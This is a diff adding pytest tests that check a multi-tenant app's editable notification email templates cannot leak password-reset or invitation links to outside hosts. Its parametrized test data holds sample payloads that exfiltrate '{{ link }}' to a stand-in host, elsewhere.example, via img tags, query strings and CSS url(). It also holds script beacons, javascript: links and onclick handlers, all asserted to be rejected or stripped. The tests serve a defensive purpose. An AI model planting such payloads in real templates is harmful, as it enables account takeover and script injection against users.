@@ -243,3 +243,103 @@ def test_other_tenants_admin_on_their_own_paths_sees_only_theirs(tenant, other_t
     assert denied["customized"] is False and denied["subject"] != "Ours"
     assert foreign.delete("/api/southwind/admin/notification-templates/claim_denied").status_code == 204
     assert NotificationTemplate.objects.filter(tenant=tenant).exists()
+
+
+# ------------------------------------------------------------------------------- no template can leak a link
+
+ACCOUNT_KINDS = ["email_verification", "password_reset", "staff_invitation", "staff_membership_invitation"]
+LEAKS = [
+    ("html_body", '<p><img src="https://elsewhere.example/?l={{ link }}"></p>', "not_allowed"),
+    ("html_body", '<p><a href="{{ link }}">Open</a></p>', "not_allowed"),  # no HTML of a brand's own at all
+    ("text_body", "Open https://elsewhere.example/?l={{ link }}", "link_not_alone"),
+    ("text_body", "Open {{ link }} or ask at www.elsewhere.example", "url_not_allowed"),
+    ("text_body", "Open {{ link }} or write to mailto:help@elsewhere.example", "url_not_allowed"),
+    ("subject", "Your link: {{ link }}", "not_allowed"),
+]
+
+
+@pytest.mark.parametrize("kind", ACCOUNT_KINDS)
+@pytest.mark.parametrize(("field", "value", "code"), LEAKS)
+def test_account_emails_refuse_wording_that_could_send_their_link_elsewhere(admin, kind, field, value, code):
+    body = {"subject": "Hello from {{ brand_name }}", "text_body": "Open this:\n\n{{ link }}\n", field: value}
+    before = _state()
+    for path in (f"{BASE}/{kind}", f"{BASE}/{kind}/preview"):
+        response = (admin.put if path.endswith(kind) else admin.post)(path, body, format="json")
+        assert response.status_code == 400, response.content
+        assert code in [e["code"] for e in response.json()["error"]["fields"][field]]
+    assert _state() == before
+    ok = {"subject": "Hello from {{ brand_name }}", "text_body": "Open this within the hour:\n\n{{ link }}\n"}
+    assert admin.put(f"{BASE}/{kind}", ok, format="json").status_code == 200  # wording alone is the brand's
+
+
+def test_a_leaking_account_template_stored_before_the_rules_is_not_used(api, tenant, make_customer, django_capture_on_commit_callbacks):
+    """The second link of the takeover chain: a brand's password-reset email shipping its link to a third party."""
+    make_customer(tenant, "ann@example.com")
+    NotificationTemplate.objects.create(
+        tenant=tenant, kind=NotificationKind.PASSWORD_RESET, subject="Reset {{ link }}",
+        text_body="Go to https://elsewhere.example/?l={{ link }}",
+        html_body='<img src="https://elsewhere.example/?l={{ link }}"><a href="https://elsewhere.example/?{{ link }}">x</a>',
+    )
+    with django_capture_on_commit_callbacks(execute=True):
+        api.post("/api/northpeak/auth/forgot-password", {"email": "ann@example.com"}, format="json")
+    (message,) = mail.outbox
+    html_part = message.alternatives[0][0]
+    for part in (message.subject, message.body, html_part):
+        assert "elsewhere" not in part
+    assert "<img" not in html_part and "reset-password?uid=" in message.body
+
+
+UNSAFE_HTML = [
+    '<p>Hi</p><img src="https://elsewhere.example/pixel.gif">',
+    '<p style="background:url(https://elsewhere.example/x.png)">Hi</p>',
+    '<p><a href="https://elsewhere.example/?c={{ claim_id }}">claim</a></p>',
+    '<p><a href="javascript:alert(1)">claim</a></p>',
+    '<p onclick="x()">Hi</p>',
+    "<script>new Image().src='https://elsewhere.example'</script><p>Hi</p>",
+    '<link rel="stylesheet" href="https://elsewhere.example/a.css"><p>Hi</p>',
+    '<table background="https://elsewhere.example/bg.png"><tr><td>Hi</td></tr></table>',
+    "<style>p{background:url(https://elsewhere.example/x)}</style><p>Hi</p>",
+]
+
+
+@pytest.mark.parametrize("html_body", UNSAFE_HTML)
+def test_every_editable_html_goes_through_the_allow_list(admin, tenant, html_body):
+    body = {"subject": "Claim {{ claim_id }}", "text_body": "We got it.", "html_body": html_body}
+    before = _state()
+    response = admin.put(f"{BASE}/claim_received", body, format="json")
+    assert response.status_code == 400
+    assert response.json()["error"]["fields"]["html_body"][0]["code"] == "unsafe_html"
+    assert _state() == before
+    # One stored before the allow-list existed is rebuilt from it when the message is rendered.
+    NotificationTemplate.objects.create(tenant=tenant, kind="claim_received", **body)
+    rendered = notification_render(tenant=tenant, kind="claim_received", context=SAMPLES["claim_received"]).html
+    for forbidden in ("elsewhere", "<img", "<script", "<style", "<link", "onclick", "javascript:", "url("):
+        assert forbidden not in rendered
+
+
+def test_a_link_in_a_transfer_offer_cannot_be_wrapped_in_another_address(admin, tenant):
+    for field, value in (
+        ("text_body", "Accept at https://elsewhere.example/?t={{ link }}"),
+        ("html_body", "<p>Accept at https://elsewhere.example/?t={{ link }}</p>"),
+    ):
+        body = {"subject": "A warranty for you", "text_body": "Accept:\n{{ link }}", field: value}
+        response = admin.put(f"{BASE}/transfer_offered", body, format="json")
+        assert response.json()["error"]["fields"][field][0]["code"] == "link_not_alone"
+
+
+def test_allowed_html_keeps_its_formatting_and_escapes_placeholder_values(admin, tenant):
+    html_body = (
+        '<h2 style="color: {{ brand_primary_color }}">Claim {{ claim_id }}</h2>'
+        '<p>Dear <strong>{{ customer_name }}</strong>, see <a href="https://northpeak.example/care">our care page</a>'
+        ' or write to <a href="mailto:{{ support_email }}">us</a>.</p><br>'
+    )
+    response = admin.put(
+        f"{BASE}/claim_received", {"subject": "S", "text_body": "T", "html_body": html_body}, format="json"
+    )
+    assert response.status_code == 200, response.content
+    rendered = notification_render(
+        tenant=tenant, kind="claim_received", context={**SAMPLES["claim_received"], "customer_name": "<b>Ann</b>"}
+    ).html
+    assert '<h2 style="color: #0b5d3b">' in rendered and '<a href="https://northpeak.example/care">' in rendered
+    assert '<a href="mailto:care@northpeak.example">' in rendered
+    assert "<strong>&lt;b&gt;Ann&lt;/b&gt;</strong>" in rendered
